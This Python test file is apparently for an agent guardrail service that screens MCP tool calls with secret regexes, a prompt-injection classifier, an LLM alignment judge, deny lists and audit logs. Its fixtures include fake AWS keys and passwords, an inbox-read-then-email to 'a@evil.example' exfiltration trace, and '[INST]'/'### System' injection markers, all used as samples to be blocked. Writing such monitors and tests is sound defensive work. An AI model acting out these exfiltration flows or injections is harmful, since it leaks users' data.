"""The whole dataflow over small exchange tables, and its audit lines written to files and read back."""

import json
import time
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from pyspark.sql import functions as F

from wardline.operators import audit, classify, rules
from wardline.plans import engine
from wardline.plans.config import Config
from wardline.plans.engine import decide, health, scorer_of, traced
from wardline.sources import audit_log, exchanges
from wardline.sources.packs import Reloader
from wardline.streaming.traces import audit_sink, decide_batches, rate_windows

START, AWS = datetime(2026, 3, 1), "AK" + "IA" + "ABCDEFGH12345678"


def exchange(k, payload, phase="request", route="r", method="tools/call", headers=None):
    raw = payload if payload is None or isinstance(payload, str) else json.dumps(payload)
    return (f"x{k}", phase, method, ["svc"], {"route_name": route}, headers or {}, raw, START + timedelta(seconds=k), k)


def call(k, name, args=None, **more):
    return exchange(k, {"name": name, "arguments": args or {}}, **more)


def answer(k, text, **more):
    return exchange(k, {"content": [{"type": "text", "text": text}]}, phase="response", **more)


def table(spark, rows):
    return spark.createDataFrame(rows, exchanges.SCHEMA)


def decided(spark, rows, cfg=Config(), **more):
    out = decide(table(spark, rows), cfg, **more)
    return {r.seq: r for r in out.collect()}


def names(row):
    return [(s.scanner, s.outcome) for s in row.results]


def test_order_of_results_and_wire(spark):
    rows = [
        call(1, "fs_read", {"path": f"key {AWS}"}), call(2, "kill", {"path": AWS}), answer(3, "mail me@x.example"), call(4, "fs_read", {"to": "me@x.example"}),
        exchange(5, "{bad"), exchange(6, "[" * 50_000 + "]" * 50_000), exchange(7, None, method="tools/list"), answer(8, "pass" + "word=swordfish1"), call(9, "x" * 100, {"a": "b" * 300}),
    ]
    got = decided(spark, rows, Config(deny_tools=("kill",), redact_request_params=True, scan_max_payload_bytes=200))
    assert names(got[1]) == [("regex:aws_access_key", "block"), ("invariant", "allow")]
    assert names(got[2]) == [("tool_acl", "block"), ("invariant", "allow")]  # a denied call isn't scanned
    assert names(got[3]) == [("regex:email", "allow")]
    assert (got[1].wire.kind, got[1].wire.code, got[1].outcome) == ("error", "PERMISSION_DENIED", "deny")
    assert AWS not in got[1].wire.reason + got[1].reason
    assert json.loads(got[1].wire.mcp_error)["error"]["data"]["ref"] == got[1].ref
    assert (got[3].wire.kind, json.loads(got[3].mutated)["content"][0]["text"], got[3].reason) == ("mutated", "mail [REDACTED:EMAIL]", "redaction:1 substitution(s)")
    assert json.loads(got[4].mutated) == {"name": "fs_read", "arguments": {"to": "[REDACTED:EMAIL]"}}
    assert (got[5].wire.code, got[5].wire.reason[:20]) == ("INVALID", "invalid json payload")
    assert (got[6].wire.code, got[6].wire.reason) == ("PERMISSION_DENIED", "engine_error")
    assert got[7].wire.kind == "pass"
    assert (got[8].decision.human_review, got[8].decision.reason) == (True, "regex:key_value_credential:review")
    assert names(got[9])[0] == ("payload_size", "human_review")
    plain = decided(spark, rows[3:4])
    assert plain[4].mutated is None
    large = decided(spark, rows[2:3], Config(redaction_max_bytes=20))
    assert (large[3].mutated, large[3].redaction_skipped) == (None, True)
    dry = decided(spark, rows[:3], Config(dry_run=True))
    assert names(dry[1]) == [("stub.request", "allow"), ("invariant", "allow")]
    assert names(dry[3]) == [("stub.response", "allow")]


def test_traces_are_by_route_and_take_calls_alone(spark):
    rows = [call(k, "fs_write", {"p": 1}) for k in range(3)] + [call(10 + k, "fs_write", {"p": 1}, route=f"r{k}") for k in range(3)] + [call(20, "inbox_read", route="q"), answer(21, "x", route="q"), exchange(22, None, route="q", method="tools/list"), call(23, "email_send", {"to": "a@evil.example"}, route="q")]
    got = decided(spark, rows + rows[:1])
    assert names(got[2])[-1] == ("invariant:denied-tool-retry-loop", "block")
    assert all(names(got[k])[-1] == ("invariant", "allow") for k in (10, 11, 12, 20, 22))
    assert names(got[23])[-1] == ("invariant:inbox-to-external-email", "block")
    assert got[23].result_metadata.rules_hit == ["inbox-to-external-email"]
    by_user = [call(k, "fs_write", {"p": 1}, headers={"X-User": f"u{k}"}) for k in range(3)]
    assert names(decided(spark, by_user)[2])[-1][1] == "block"
    assert names(decided(spark, by_user, Config(invariant_trace_key_headers=("x-user",)))[2])[-1][1] == "allow"
    plan = traced(table(spark, rows))._jdf.queryExecution().executedPlan().toString()
    assert "content" not in plan


def test_many_trace_verdicts_are_joined_without_broadcast(spark, monkeypatch):
    rows = [call(k, "same", {"p": 1}, route=f"r{k % 4}") for k in range(40)] + [answer(50, "x")]
    sent = {k: names(r) for k, r in decided(spark, rows).items()}
    monkeypatch.setattr(engine, "BROADCAST_ROWS", 3)
    assert {k: names(r) for k, r in decided(spark, rows).items()} == sent
    assert sum(n[-1][1] == "block" for n in sent.values()) == 32


def test_parked_flows_outlive_the_window(spark):
    rows = [call(1, "inbox_read"), *[call(k, "fs_read", {"p": k}) for k in range(2, 7)], call(7, "email_send", {"to": "a@evil.example"}), answer(8, "x")]
    cfg = Config(invariant_window=3)
    assert names(decided(spark, rows, cfg)[7])[-1] == ("invariant", "allow")
    got = decided(spark, rows, cfg, parked=True)
    assert names(got[7])[-1] == ("invariant:inbox-to-external-email", "block")
    assert names(got[6])[-1] == ("invariant", "allow")
    assert got[7].decision.reason.endswith("Read an inbox then send email to an external recipient (data exfiltration)")


def test_long_arguments_lose_what_is_beyond_their_share_but_not_their_identity(spark):
    pack = (rules.Flow("tail", (rules.Step("a", {"s": "needle$"}),)), rules.Loop("same", 2))
    rows = [call(1, "a", {"s": "x" * 9000 + "needle"}), call(2, "a", {"s": "x" * 9000 + "noodle"}), call(3, "a", {"s": "x" * 9000 + "noodle"})]
    rules_hit = lambda cfg: [decided(spark, rows, cfg, pack=pack)[k].result_metadata.rules_hit for k in (1, 2, 3)]
    assert rules_hit(Config()) == [[], [], ["same"]]
    assert rules_hit(Config(invariant_args_max_bytes=0)) == [["tail"]] * 3


def test_classifier_and_failures(spark):
    def fails_on_b(text):
        if "b" in text:
            raise OSError("disk")
        return 0.95 if "z" in text else 0.6 if "y" in text else 0.0

    rows = [answer(1, "a"), answer(2, "b"), answer(3, "y"), answer(4, "z"), call(5, "t", {"q": "z"})]
    run = classify.scorer(classify.stub(fails_on_b))
    got = decided(spark, rows, classifier=run)
    assert names(got[1]) == [("regex", "allow"), ("onnx-promptguard", "allow")]
    assert [(r.outcome, r.reason, r.score) for r in got[2].results[1:]] == [("block", "error:OSError:disk", 1.0)]
    assert [(r.outcome, r.reason) for r in got[3].results[1:]] == [("human_review", "prompt injection score 0.600 in grey zone [0.5, 0.9)")]
    assert [(r.outcome, r.reason) for r in got[4].results[1:]] == [("block", "prompt injection score 0.950 >= 0.9")]
    assert names(got[5])[1] == ("onnx-promptguard", "block")
    open_ = decided(spark, rows, Config(failure_mode="failOpen"), classifier=run)
    assert [(r.outcome, r.reason) for r in open_[2].results[1:]] == [("human_review", "failopen:error:OSError:disk")]
    off = decided(spark, rows, Config(enable_promptguard=False), classifier=run)
    assert names(off[4]) == [("regex", "allow")]

    def absent():
        raise ImportError("no runtime")

    assert names(decided(spark, rows[:1], classifier=classify.scorer(absent))[1]) == [("regex", "allow")]


def test_windows_of_a_classifier():
    seen = []

    def logits(windows):
        seen.extend(windows)
        return [[0.0, 9.0 if 7 in w else -9.0] for w in windows]

    score = classify.windowed(lambda t: [int(c) for c in t], logits, ("benign", "Injection"), win=8, stride=2, most=16)
    assert [round(x, 3) for x in score(["0" * 30 + "7", "0" * 5, "", "7" + "0" * 40])] == [1.0, 0.0, 0.0, 1.0]
    assert max(map(len, seen)) == 8
    with pytest.raises(ValueError, match="none of"):
        classify.windowed(list, logits, ("benign", "fine"))
    with pytest.raises(ValueError, match="none of"):
        classify.check_labels([])


def judge_of():
    def make():
        def judge(asked):
            if "quota" in asked:
                raise OSError(f"secret {asked}")
            if "settings" in asked:
                raise RuntimeError("no key")
            if "prose" in asked:
                raise ValueError("I think so")
            return "vault_read, http_post" in asked, asked

        return judge

    return make


def test_second_stage(spark):
    rows = [call(1, "vault_read"), call(2, "http_post"), answer(3, "y"), answer(4, "y", route="other"), answer(5, "y quota"), answer(6, "y settings"), answer(7, "y prose"), answer(8, "calm"), answer(9, f"y {AWS} " + "redis" + "://u:p@host:6379/0")]
    run = classify.scorer(classify.stub(lambda t: 0.6 if t.startswith("y") else 0.0))
    cfg = Config(enable_agent_alignment=True, enable_regex_scanner=False)
    got = decided(spark, rows, cfg, classifier=run, judge=classify.aligner(judge_of()))
    second = {k: [(r.outcome, r.reason) for r in got[k].results if r.scanner == classify.SECOND] for k in range(1, 10)}
    asked = classify.prompt("vault_read, http_post", "y")
    assert second[3] == [("block", f"AgentAlignment: compromised (observation match_len={len(asked)})")]
    assert second[4] == [("allow", "")]
    assert second[5] == [("human_review", "llm_error:OSError")]
    assert second[6] == [("human_review", "config_error:no key")]
    assert second[7] == [("human_review", "unparseable_llm_output (match_len=10)")]
    assert second[1] == second[8] == []
    masked = classify.prompt("vault_read, http_post", "y [REDACTED:AWS_ACCESS_KEY] [REDACTED:CONNECTION_STRING]")
    assert second[9] == [("block", f"AgentAlignment: compromised (observation match_len={len(masked)})")]
    assert classify.prompt("", "t") == "Evaluate this agent action:\n\nt"
    assert not any(s.scanner == classify.SECOND for r in decided(spark, rows, classifier=run).values() for s in r.results)


def test_audit_lines_survive_files(spark, tmp_path):
    """Decisions by micro-batch are written as chained lines, read back, verified and counted."""
    rows = [call(1, "fs_read", {"q": AWS}), answer(1, "mail me@x.example"), call(2, "fs_read"), answer(2, "pass" + "word=swordfish1"), *[call(10 + k, "same", {"p": 1}, route="loop") for k in range(3)]]
    table(spark, rows).coalesce(1).write.parquet(str(tmp_path / "in"))
    (tmp_path / "pack.json").write_text(rules.to_json(rules.DEFAULT_PACK))
    cfg, reloader, told = Config(audit_log_path=str(tmp_path / "audit"), guardrail_version="9"), Reloader(spark, str(tmp_path / "pack.json")), []
    review = lambda df, n: told.extend(r.body for r in exchanges.review_payload(df).collect())
    batch = decide_batches(reloader, [audit_sink(cfg, reloader), review], cfg)
    q = exchanges.read_stream(spark, str(tmp_path / "in")).writeStream.foreachBatch(batch).option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
    assert q.awaitTermination(200)
    with open(tmp_path / "audit" / "note.txt", "w") as f:
        f.write("\n{broken\n[1]\n")
    lines = spark.read.text(str(tmp_path / "audit"))
    assert audit_log.malformed(lines).first()[:] == (len(rows) + 3, 2)
    back = audit_log.read(spark, str(tmp_path / "audit")).cache()
    assert {r.outcome: r.n for r in audit.distribution(back, "outcome").collect()} == {"deny": 2, "allow": 3, "mutated": 1, "human_review": 1}
    assert audit.pairs(back).first()[:] == (5, 2, 3, 0)
    assert [(r.rule, r.n) for r in audit.rule_hits(back).collect()] == [("denied-tool-retry-loop", 1)]
    assert {(r.result, r.n) for r in audit.reloads(back).collect()} == {("success", 1)}
    assert {r.phase: r.redactions for r in audit.redactions(back).collect()} == {"request": 0, "response": 1}
    assert {r.up_to: r.n for r in audit.histogram(back).groupBy("up_to").agg(F.sum("n").alias("n")).collect()} == {1.0: len(rows)}
    assert back.where("sidecar_version = '9'").count() == len(rows)
    seq = F.coalesce(F.col("ts_ms"), F.lit(0.0))
    state = audit.verify(back.where("line_hash is not null").select(F.coalesce("route", F.lit("rules")).alias("stream"), seq.alias("seq"), F.col("raw").alias("line"))).collect()
    assert {(r.stream, r.checked, r.problem) for r in state} == {("r", 4, None), ("loop", 3, None), ("rules", 1, None)}
    assert [json.loads(x)["reason"] for x in told] == ["regex:key_value_credential:review"]
    assert {r.redactions for r in audit.redactions(audit_log.parse(spark.createDataFrame([], "value string"))).collect()} == set()
    back.unpersist()


def test_review_sink_drops_errors_and_sends_some_at_a_time(spark, tmp_path):
    sent = tmp_path / "sent"
    sent.mkdir()

    def send(bodies):
        (sent / f"{hash(tuple(bodies))}.txt").write_text("\n".join(bodies))
        raise OSError("unreachable")

    df = spark.createDataFrame([(k, "why" * 300) for k in range(5)], "k int, reason string").coalesce(1)
    df = df.select(F.struct(F.lit(True).alias("human_review")).alias("decision"), "reason", F.lit("r").alias("ref"), F.col("k").cast("string").alias("exchange_id"))
    exchanges.review_sink(send, batch=2)(df, 0)
    bodies = [json.loads(x) for f in sent.iterdir() for x in f.read_text().split("\n")]
    assert sorted(b["exchange_id"] for b in bodies) == list("01234")
    assert all(len(b["reason"]) == 512 and set(b) == {"outcome", "reason", "ref", "exchange_id"} for b in bodies)
    assert len(list(sent.iterdir())) == 3


def test_headers_from_bytes(spark):
    rows = [([("a", b"1"), ("b", b"\xff\xfe"), ("a", b"2")],)]
    df = exchanges.with_decoded_headers(spark.createDataFrame(rows, "headers array<struct<key:string,value:binary>>"))
    assert df.first().headers == {"a": "2", "b": "��"}


def test_rate_windows(spark):
    rows = [("k", "t", START + timedelta(seconds=k)) for k in range(40)] + [("k", "u", START)]
    got = rate_windows(spark.createDataFrame(rows, "key string, tool string, ts timestamp"), most=30).collect()
    assert [(r.key, r.tool, r.calls) for r in got] == [("k", "t", 40)]


def test_health_by_settings(spark):
    rows = [("s", k, START + timedelta(seconds=k), k % 2 == 0) for k in range(12)]
    df = health(spark.createDataFrame(rows, "key string, seq int, ts timestamp, ok boolean"), "key", F.col("ok"), Config(unhealthy_scanner_window=4, unhealthy_scanner_min_samples=3, unhealthy_scanner_error_rate=0.4))
    assert {r.seq: r.healthy for r in df.collect()} == {0: True, 1: True, 2: True, **dict.fromkeys(range(3, 12), False)}


def test_scorer_by_settings(spark):
    run = scorer_of(lambda: lambda t: list(t.encode()), lambda: lambda windows: [[0.0, 5.0 if 122 in w else -5.0] for w in windows], ("ok", "JAILBREAK"), Config(pg_max_windows=2))
    df = spark.createDataFrame([(["a" * 2000 + "z", "z" + "a" * 2000, "a" * 1000 + "z" + "a" * 1000],), (None,)], "t array<string>")
    got = [r.s and [round(x.score, 1) for x in r.s] for r in df.select(run("t").alias("s")).collect()]
    assert got == [[1.0, 1.0, 0.0], None]


def test_stream_decisions_know_earlier_batches(spark, tmp_path):
    """Four equal calls in four batches, each after a restart: the third and the fourth are denied; an answer sees the calls before it."""
    from wardline.streaming.replay import settings
    from wardline.streaming.traces import decide_stream

    seen, judged = {}, classify.aligner(lambda: lambda asked: ("fs_write, fs_write" in asked, asked))
    cfg = Config(enable_agent_alignment=True, enable_regex_scanner=False, audit_log_path=str(tmp_path / "audit"))
    keep = lambda df, n: seen.update({r.seq: r for r in df.collect()})
    odd = exchange(21, '{"name":"shell_exec","name":"shell_exec","arguments":{}}'), exchange(22, "{not json"), exchange(23, ""), exchange(24, '"abc"', route="q")
    for k, rows in enumerate(([call(0, "fs_write", {"p": 1})], [call(1, "fs_write", {"p": 1.0}), call(2, "fs_write", {"p": 1})], [call(3, "fs_write", {"p": 1}), answer(10, "y")], [call(4, "fs_write", {"p": 1}), answer(11, "y", route="other"), *odd])):
        table(spark, rows).coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
        writer = decide_stream(exchanges.read_stream(spark, str(tmp_path / "in")), [audit_sink(cfg), keep], Config(**{**cfg.__dict__, "deny_tools": ("shell_exec",)}), classifier=classify.scorer(classify.stub(lambda t: 0.6 if t == "y" else 0.0)), judge=judged, shards=3)
        with settings(spark):
            q = writer.option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
            assert q.awaitTermination(200), k
    assert {k: seen[k].outcome for k in sorted(seen)} == {0: "allow", 1: "allow", 2: "allow", 3: "deny", 4: "deny", 10: "deny", 11: "allow", 21: "deny", 22: None, 23: None, 24: "allow"}
    assert names(seen[4])[-1] == ("invariant:denied-tool-retry-loop", "block")
    assert seen[4].decision.reason.endswith("Same tool+args call repeated 3+ times in the window (injection retry loop)")
    assert seen[21].wire.code == "PERMISSION_DENIED"
    back = audit_log.read(spark, str(tmp_path / "audit"))
    assert sorted((r.ts, r.rules_version) for r in back.collect()) == [(int((START + timedelta(seconds=k)).replace(tzinfo=UTC).timestamp()), "1") for k in sorted(seen) if k not in (22, 23)]


def test_one_parser_reads_text_and_tool(spark):
    payloads = {
        '{"name":"shell_exec","name":"shell_exec","arguments":{}}': ("shell_exec", None), '{"name":"shell_exec","arguments":{"v":NaN}}': ("shell_exec", None), '{"name":"a","name":"shell_exec"}': ("shell_exec", None), '{"name":"shell_exec","name":"a"}': ("a", None),
        '"abc"': ("", '{"_raw": "abc"}'), "[1]": ("", '{"_raw": [1]}'), "7": ("", '{"_raw": 7}'), "true": ("", '{"_raw": true}'), "null": ("", '{"_raw": null}'), '{"name":1.0,"arguments":{"n":1.0}}': ("1.0", None), '{"name":"t","arguments":"x"}': (None, None), '{"name":"t","arguments":[]}': ("t", None),
    }
    got = decided(spark, [exchange(k, p) for k, p in enumerate(payloads)], Config(deny_tools=("shell_exec",)))
    for k, (raw, (tool, flat)) in enumerate(payloads.items()):
        assert got[k].tool == (tool or ""), raw
        assert flat is None or got[k].text == flat
        assert (got[k].outcome, got[k].error) == ({"shell_exec": "deny"}.get(tool, "allow"), None) if tool is not None else (None, "engine_error"), raw
    plan = engine.prepare(table(spark, [exchange(1, "{}")]))._jdf.queryExecution().executedPlan().toString()
    assert plan.count("ArrowEvalPython") == 1


def test_windows_and_fold_agree_on_typed_arguments(spark):
    rows = [call(k, "w", a) for k, a in enumerate([{"a": 1}, {"a": 1.0}, {"a": 1.00}, {"a": "1"}, {"a": 1}, {"b": 2, "a": 1}, {"a": 1, "b": 2}])]
    pack = (rules.Loop("loop", 2),)
    for parked in (False, True):
        got = decided(spark, rows, pack=pack, parked=parked)
        assert [k for k in sorted(got) if got[k].outcome == "deny"] == [2, 3, 4, 5, 6]  # what holds in the window goes on firing


def test_large_verdicts_are_not_sent_around(spark):
    rows = [call(k, "same", {"p": 1}) for k in range(4)]
    sent = {k: names(r) for k, r in decided(spark, rows).items()}
    long = [(f"{r[0]}{'x' * 2000}", *r[1:]) for r in rows]
    assert {k: names(r) for k, r in decided(spark, long).items()} == sent


def test_counters_and_sketches_of_batches(spark, tmp_path):
    from wardline.streaming import reports

    rnd = __import__("random").Random(3)
    rows = [(rnd.choice(["request", "response"]), rnd.choice(["allow", "deny"]), rnd.expovariate(0.1)) for _ in range(4000)]
    records = spark.createDataFrame(rows, "phase string, outcome string, duration_ms double").withColumns({"method": F.lit("tools/call"), "scanners": F.array(F.struct(F.lit("regex").alias("scanner"), F.lit("allow").alias("outcome")))})
    sink = reports.metrics_sink(f"file://{tmp_path}/m", lambda df: df)
    parts = records.randomSplit([0.2] * 5, 1)
    for n, part in [*enumerate(parts), (2, parts[2])]:  # a batch that is repeated counts once
        sink(part, n)
    counted = {(r.label1, r.label2): r.n for r in spark.read.parquet(f"file://{tmp_path}/m/counters").where("metric = 'decisions'").groupBy("label1", "label2").agg(F.sum("n").alias("n")).collect()}
    want = {(p, o): sorted(d for q, x, d in rows if (q, x) == (p, o)) for p in ("request", "response") for o in ("allow", "deny")}
    assert counted == {k: len(v) for k, v in want.items()}
    for r in reports.quantiles(spark.read.parquet(f"file://{tmp_path}/m/durations")).collect():
        mine = want[r.phase, r.outcome]
        assert abs(sum(d <= r.duration_ms for d in mine) / len(mine) - r.share) < 0.02
    live = reports.Live("live")
    spark.streams.addListener(live)
    records.coalesce(1).write.parquet(str(tmp_path / "in"))
    stream = reports.observed(spark.readStream.schema(records.schema).parquet(str(tmp_path / "in")), "live")
    q = stream.writeStream.format("noop").option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
    assert q.awaitTermination(100)
    spark.sparkContext._jsc.sc().listenerBus().waitUntilEmpty(20_000)
    spark.streams.removeListener(live)
    assert {k: v for k, v in live.totals.items() if ":" in k} == {f"{p}:{o}": len(v) for (p, o), v in want.items()}


def test_a_silent_scanner_is_told_of(spark, tmp_path):
    from wardline.streaming import reports
    from wardline.streaming.replay import settings

    rows = [("s", k, START + timedelta(seconds=k), k != 1) for k in range(4)]
    df = spark.createDataFrame(rows, "key string, seq long, ts timestamp, ok boolean")
    df.coalesce(1).write.parquet(str(tmp_path / "in"))
    stream = reports.health_stream(spark.readStream.schema(df.schema).parquet(str(tmp_path / "in")), "key", F.col("ok"), last=2, least=2, worst=0.4, silent_ms=300)
    with settings(spark, **{"spark.sql.streaming.noDataMicroBatches.enabled": "true"}):
        q = stream.writeStream.format("memory").queryName("told").outputMode("append").option("checkpointLocation", str(tmp_path / "cp")).trigger(processingTime="1 second").start()
        for _ in range(60):
            time.sleep(1)
            if spark.sql("SELECT * FROM told WHERE silent").count():
                break
        q.stop()
    got = [tuple(r)[1:] for r in spark.sql("SELECT * FROM told ORDER BY seq NULLS LAST").collect()]
    assert got == [(0, 0.0, True, False), (1, 0.5, False, False), (2, 0.5, False, False), (3, 0.0, True, False), (None, None, None, True)]


def test_equal_texts_are_asked_about_once(spark, tmp_path):
    """Model and judge are called as often as there are distinct texts (and calls before them); verdicts don't change."""
    calls = tmp_path / "calls"
    calls.mkdir()

    def note(kind, value):
        (calls / f"{kind}-{uuid.uuid4().hex}").write_text(value)

    def score(value):
        note("model", value)
        return 0.6 if value.startswith("y") else 0.0

    def judge(asked):
        note("judge", asked)
        return "yes" in asked, asked

    rows = [answer(k, f"{'y' if k % 3 else 'n'}es {k % 6}", route=f"r{k % 2}") for k in range(30)] + [exchange(40, {"content": []}, phase="response"), exchange(41, "{broken", phase="response")]
    cfg = Config(enable_agent_alignment=True, enable_regex_scanner=False)
    run = {"classifier": classify.scorer(classify.stub(score)), "judge": classify.aligner(lambda: judge)}
    verdicts = lambda got: {k: [(x.scanner, x.outcome, x.reason, x.score) for x in r.results] for k, r in got.items()}
    each = verdicts(decided(spark, rows, cfg, **run))
    many = sorted(f.name.split("-")[0] for f in calls.iterdir())
    for f in calls.iterdir():
        f.unlink()
    assert verdicts(decided(spark, rows, cfg, once=True, **run)) == each
    once = sorted(f.name.split("-")[0] for f in calls.iterdir())
    assert (once.count("model"), once.count("judge")) == (7, 4)  # six texts and an empty list's; four of them flagged
    assert many.count("model") > 20

    def absent():
        raise ImportError("no runtime")

    assert verdicts(decided(spark, rows[:2], Config(enable_regex_scanner=False), once=True, classifier=classify.scorer(absent))) == {0: [], 1: []}


def test_denials_are_told_from_one_scan(spark, tmp_path):
    from wardline.functions.patterns import PATTERNS
    from wardline.plans import catalogue

    docs = [(k, "plain" if k % 2 else "an [INST] mark") for k in range(40)]
    spark.createDataFrame(docs, "doc_id long, text string").write.parquet(str(tmp_path / "documents.parquet"))
    body = catalogue.error_body(spark, str(tmp_path))
    searches = body._jdf.queryExecution().optimizedPlan().toString().count("RLIKE")
    assert searches <= len(PATTERNS) + sum(bool(p.harmless) for p in PATTERNS)
    denied = {r.doc_id for r in catalogue.decision_pass(spark, str(tmp_path)).where("deny").collect()}
    assert {k for k, t in docs if t != "plain"} < denied == {r.doc_id for r in body.collect()}


def test_health_of_many_scanners_is_kept_by_shard(spark, tmp_path):
    from wardline.streaming import reports
    from wardline.streaming.replay import settings

    rows = [(None if k % 41 == 40 else f"s{k % 41}", k, START + timedelta(seconds=k // 3), k * 7 % 5 > 1) for k in range(1200)]
    kind = "key string, seq long, ts timestamp, ok boolean"
    for k in range(3):  # three batches, the second without some of the scanners
        part = [r for r in rows if r[1] // 400 == k and not (k == 1 and r[1] % 41 < 9)]
        spark.createDataFrame(part, kind).write.mode("append").parquet(str(tmp_path / "in"))
        stream = reports.health_stream(spark.readStream.schema(spark.createDataFrame([], kind).schema).parquet(str(tmp_path / "in")), "key", F.col("ok"), last=7, least=3, worst=0.4, shards=4)
        with settings(spark):
            q = stream.writeStream.format("parquet").option("path", str(tmp_path / "out")).option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
            assert q.awaitTermination(100)
    assert 0 < q.lastProgress["stateOperators"][0]["numRowsTotal"] <= 4
    got = {r.seq: (r.key, r.failure_ratio, r.healthy) for r in spark.read.parquet(str(tmp_path / "out")).collect()}
    whole = audit.health(spark.read.schema(kind).parquet(str(tmp_path / "in")), "key", F.col("ok"), 7, 3, 0.4)
    want = {r.seq: (r.key, r.failure_ratio, r.healthy) for r in whole.collect()}
    assert len(got) == len(want) and all(got[k] == (key, pytest.approx(ratio), healthy) for k, (key, ratio, healthy) in want.items())


def test_a_model_is_given_some_texts_at_a_time(spark):
    from wardline.functions.parts import PART_BYTES

    make = lambda: lambda texts: [float(sum(map(len, texts)))] * len(texts)
    df = spark.range(0, 3000, 1, 1).select(F.when(F.col("id") % 9 > 0, F.array(F.repeat(F.lit("x"), F.lit(4000)), F.lit("y"))).alias("texts"))
    got = df.select("texts", classify.scorer(make)("texts").alias("s")).agg(F.max(F.array_max("s.score")).alias("most"), F.count_if(F.expr("s is null and texts is null or size(s) = 2")).alias("n")).first()
    assert 0 < got.most <= PART_BYTES and got.n == 3000


def test_payloads_are_read_and_masked_in_one_worker(spark):
    """Two Python steps in a plan of decisions, the reader and the views, whatever is masked; denied payloads stay as they are."""
    mail = '{"name":"t","arguments":{"a":"x@example.com"},"_":"y@example.com"}'
    rows = [exchange(0, mail), answer(1, "z@example.com"), answer(2, "z@example.com ### System"), exchange(3, "{not json"), answer(4, "plain")]
    for params, sent in ((False, None), (True, '{"name": "t", "arguments": {"a": "[REDACTED:EMAIL]"}, "_": "y@example.com"}')):
        cfg = Config(redact_request_params=params)
        plan = engine.decide(table(spark, rows), cfg, pack=())._jdf.queryExecution().executedPlan().toString()
        assert plan.count("ArrowEvalPython") == 2
        got = decided(spark, rows, cfg, pack=())
        assert [got[k].redactions for k in range(5)] == [int(params), 1, 0, 0, 0]
        assert got[0].mutated == sent
        assert "[REDACTED:EMAIL]" in got[1].mutated
        assert [got[k].mutated for k in (2, 3, 4)] == [None] * 3
        assert got[2].outcome == "deny"
    plan = engine.decide(table(spark, rows), Config(enable_redaction=False), pack=())
    assert plan.where("mutated IS NOT NULL OR redaction_skipped").count() == 0
